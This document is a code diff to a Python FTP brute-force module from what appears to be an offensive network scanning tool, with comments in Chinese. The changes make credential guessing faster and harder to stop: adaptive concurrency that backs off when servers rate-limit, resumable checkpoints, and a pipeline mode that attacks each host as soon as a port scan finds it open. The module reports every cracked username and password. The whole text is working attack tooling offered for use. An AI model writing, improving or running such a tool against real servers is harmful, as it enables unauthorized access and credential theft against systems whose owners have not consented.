@@ -5,18 +5,35 @@ from concurrent.futures import ThreadPoolExecutor, as_completed
 from colorama import Fore, Style
 import time
 import socket
-from config.settings import THREADS, FTP_USERS, FTP_PASSWORDS
+from config.settings import THREADS, FTP_USERS, FTP_PASSWORDS, BRUTE_INITIAL_INFLIGHT
+from lib.utils.progress import console, ShardedCounter
+from lib.utils.banner import known_service
+from lib.utils.congestion import AIMDController, classify_exception, SUCCESS, ERROR
 
 class FTPBruteforce:
-    def __init__(self, threads=None):
+    def __init__(self, threads=None, adaptive=True, journal=None, banners=None):
         self.threads = threads or THREADS
         self._lock = threading.Lock()
         self.results = {}
         self.total_attempts = 0
-        self.current_attempts = 0
+        self.current_attempts = ShardedCounter()
+        self.completed_targets = 0
+        self.total_targets = 0
+        self.start_time = 0.0
         self.errors = 0
         self.skip_ips = set()
         self.valid_targets = set()
+        self.journal = journal
+        # 端口扫描阶段抓取的 banner，已识别协议的目标不再建立验证连接
+        self.banners = banners
+        self.interrupted = False
+        # 同时进行的登录尝试数由 AIMD 窗口控制，遇到限速或连接异常时自动收缩
+        max_attempts = self.threads * 5
+        self.congestion = AIMDController(
+            initial=min(BRUTE_INITIAL_INFLIGHT, max_attempts) if adaptive else max_attempts,
+            maximum=max_attempts,
+            adaptive=adaptive
+        )
         
         # 直接使用配置中的用户名和密码列表
         self.default_users = FTP_USERS
@@ -24,6 +41,9 @@ class FTPBruteforce:
 
     def verify_ftp(self, ip: str, port: int) -> bool:
         """验证FTP服务是否可用"""
+        service = known_service(self.banners, ip, port)
+        if service is not None:
+            return service == 'ftp'
         try:
             with socket.create_connection((ip, port), timeout=3) as sock:
                 banner = sock.recv(1024).decode('utf-8', errors='ignore')
@@ -46,16 +66,26 @@ class FTPBruteforce:
                 
             ftp.login(username, password)
             ftp.quit()
+            self.congestion.record(SUCCESS)
             return (username, password)
             
         except ftplib.error_perm:
+            self.congestion.record(SUCCESS)
             return None
-        except Exception:
+        except Exception as e:
+            # 421 等临时错误通常是服务端连接数限制
+            if isinstance(e, ftplib.error_temp):
+                self.congestion.record(ERROR)
+            else:
+                self.congestion.record(classify_exception(e))
             self.skip_ips.add(ip)
             return None
 
     def scan_target(self, ip: str, port: int) -> None:
         """扫描单个FTP目标"""
+        if self.journal and self.journal.is_cred_done('ftp', ip, port):
+            return
+
         if not self.verify_ftp(ip, port):
             with self._lock:
                 self.errors += 1
@@ -102,49 +132,123 @@ class FTPBruteforce:
                                 'username': username,
                                 'password': password
                             })
-                            print(f"\r{' ' * 100}\r{Fore.RED}[+] FTP Found: {ip}:{port} {username}:{password}{Style.RESET_ALL}")
-                        return
+                            if self.journal:
+                                self.journal.cred_found('ftp', ip, self.results[ip][-1])
+                            console.write(f"{Fore.RED}[+] FTP Found: {ip}:{port} {username}:{password}{Style.RESET_ALL}")
+                        break
                 except Exception:
                     continue
 
+        # 中断时该目标的字典可能未尝试完，不写入检查点
+        if self.journal and not self.interrupted:
+            self.journal.cred_target_done('ftp', ip, port)
+
     def try_credential(self, ip: str, port: int, username: str, password: str) -> Optional[Tuple[str, str]]:
         """尝试单个凭据组合"""
-        with self._lock:
-            self.current_attempts += 1
-            self._current_user = username
-            self._current_pass = password
+        if self.interrupted:
+            return None
+        self.current_attempts.add()
+        # 仅用于状态栏显示，读到新旧值均可
+        self._current_user = username
+        self._current_pass = password
         
-        return self.try_login(ip, port, username, password)
+        self.congestion.acquire()
+        try:
+            return self.try_login(ip, port, username, password)
+        finally:
+            self.congestion.release()
 
-    def scan(self, targets: Dict[str, Set[int]], userfile: str = None, passfile: str = None) -> Dict:
-        """执行FTP扫描"""
+    def status_line(self) -> str:
+        """状态栏内容，由控制台渲染线程定时读取"""
+        elapsed = time.time() - self.start_time
+        attempts = self.current_attempts.value
+        speed = attempts / elapsed if elapsed > 0 else 0
+        progress = self.completed_targets / self.total_targets * 100 if self.total_targets else 100.0
+        return (f"{Fore.BLUE}[*] Progress: {progress:.1f}% ({self.completed_targets}/{self.total_targets}) "
+                f"Speed: {speed:.1f} attempts/s "
+                f"Current: {self._current_user}:{self._current_pass} "
+                f"Errors: {self.errors} "
+                f"Window: {self.congestion.window}{Style.RESET_ALL}")
+
+    def prepare(self, userfile: str = None, passfile: str = None, total_targets: int = 0) -> None:
+        """载入字典并重置统计，scan 与流水线模式共用"""
         # 如果提供了自定义字典文件，则使用自定义字典
         if userfile:
             try:
                 with open(userfile, 'r', encoding='utf-8') as f:
                     self.default_users = [line.strip() for line in f if line.strip() and not line.startswith('#')]
             except Exception as e:
-                print(f"{Fore.RED}[!] Error loading custom users file: {e}{Style.RESET_ALL}")
+                console.write(f"{Fore.RED}[!] Error loading custom users file: {e}{Style.RESET_ALL}")
                 
         if passfile:
             try:
                 with open(passfile, 'r', encoding='utf-8') as f:
                     self.default_passwords = [line.strip() for line in f if line.strip() and not line.startswith('#')]
             except Exception as e:
-                print(f"{Fore.RED}[!] Error loading custom passwords file: {e}{Style.RESET_ALL}")
-        
-        total_targets = sum(len(ports) for ports in targets.values())
+                console.write(f"{Fore.RED}[!] Error loading custom passwords file: {e}{Style.RESET_ALL}")
+
+        self.total_targets = total_targets
         self.total_attempts = total_targets * len(self.default_users) * len(self.default_passwords)
-        self.current_attempts = 0
+        self.current_attempts.reset()
+        self.completed_targets = 0
         self.errors = 0
         self._current_user = ''
         self._current_pass = ''
         self.valid_targets.clear()
         self.skip_ips.clear()
+        self.interrupted = False
+        self.start_time = time.time()
 
-        print(f"\n{Fore.YELLOW}[*] Starting FTP bruteforce for {total_targets} targets...{Style.RESET_ALL}\n")
-        
-        start_time = time.time()
+    def restore(self, ips) -> None:
+        """恢复扫描：载入这些主机已找到的凭据，已完成的目标在 scan_target 中跳过"""
+        if not self.journal:
+            return
+        for ip in ips:
+            entries = self.journal.creds['ftp'].get(ip)
+            if entries:
+                with self._lock:
+                    self.results.setdefault(ip, list(entries))
+
+    def add_target(self, ip: str, port: int) -> None:
+        """流水线模式：端口扫描发现开放端口后立即爆破该目标"""
+        with self._lock:
+            self.total_targets += 1
+            self.total_attempts += len(self.default_users) * len(self.default_passwords)
+        self.restore([ip])
+        try:
+            self.scan_target(ip, port)
+        finally:
+            with self._lock:
+                self.completed_targets += 1
+
+    def report(self) -> Dict:
+        """输出爆破统计与找到的凭据"""
+        elapsed = time.time() - self.start_time
+        if self.results:
+            console.write(f"\n{Fore.GREEN}[*] FTP bruteforce completed in {elapsed:.1f}s. "
+                          f"Found {len(self.results)} valid credentials. "
+                          f"Errors: {self.errors}{Style.RESET_ALL}\n")
+            
+            for ip, creds in self.results.items():
+                for cred in creds:
+                    console.write(f"{Fore.GREEN}    {ip}:{cred['port']} - {cred['username']}:{cred['password']}{Style.RESET_ALL}")
+            console.write()
+        else:
+            console.write(f"\n{Fore.YELLOW}[*] FTP bruteforce completed in {elapsed:.1f}s. "
+                          f"No valid credentials found. "
+                          f"Errors: {self.errors}{Style.RESET_ALL}\n")
+
+        return self.results
+
+    def scan(self, targets: Dict[str, Set[int]], userfile: str = None, passfile: str = None) -> Dict:
+        """执行FTP扫描"""
+        total_targets = sum(len(ports) for ports in targets.values())
+        self.prepare(userfile, passfile, total_targets)
+        self.restore(targets)
+
+        console.write(f"\n{Fore.YELLOW}[*] Starting FTP bruteforce for {total_targets} targets...{Style.RESET_ALL}\n")
+
+        console.start(self.status_line)
         try:
             with ThreadPoolExecutor(max_workers=self.threads) as executor:
                 futures = []
@@ -154,36 +258,19 @@ class FTPBruteforce:
                             executor.submit(self.scan_target, ip, port)
                         )
                 
-                completed = 0
-                total = len(futures)
-                
-                for future in as_completed(futures):
-                    completed += 1
-                    elapsed = time.time() - start_time
-                    speed = self.current_attempts / elapsed if elapsed > 0 else 0
-                    progress = (completed / total) * 100
-                    
-                    print(f"\r{Fore.BLUE}[*] Progress: {progress:.1f}% ({completed}/{total}) "
-                          f"Speed: {speed:.1f} attempts/s "
-                          f"Current: {self._current_user}:{self._current_pass} "
-                          f"Errors: {self.errors}{Style.RESET_ALL}", end='')
+                try:
+                    for _ in as_completed(futures):
+                        self.completed_targets += 1
+                except KeyboardInterrupt:
+                    # 通知工作线程尽快结束，未开始的目标直接取消
+                    self.interrupted = True
+                    for future in futures:
+                        future.cancel()
+                    raise
 
         except KeyboardInterrupt:
-            print(f"\n{Fore.RED}[!] FTP bruteforce interrupted by user{Style.RESET_ALL}")
-        
-        elapsed = time.time() - start_time
-        if self.results:
-            print(f"\n{Fore.GREEN}[*] FTP bruteforce completed in {elapsed:.1f}s. "
-                  f"Found {len(self.results)} valid credentials. "
-                  f"Errors: {self.errors}{Style.RESET_ALL}\n")
-            
-            for ip, creds in self.results.items():
-                for cred in creds:
-                    print(f"{Fore.GREEN}    {ip}:{cred['port']} - {cred['username']}:{cred['password']}{Style.RESET_ALL}")
-            print()
-        else:
-            print(f"\n{Fore.YELLOW}[*] FTP bruteforce completed in {elapsed:.1f}s. "
-                  f"No valid credentials found. "
-                  f"Errors: {self.errors}{Style.RESET_ALL}\n")
-            
-        return self.results 
\ No newline at end of file
+            console.write(f"\n{Fore.RED}[!] FTP bruteforce interrupted by user{Style.RESET_ALL}")
+        finally:
+            console.stop()
+
+        return self.report()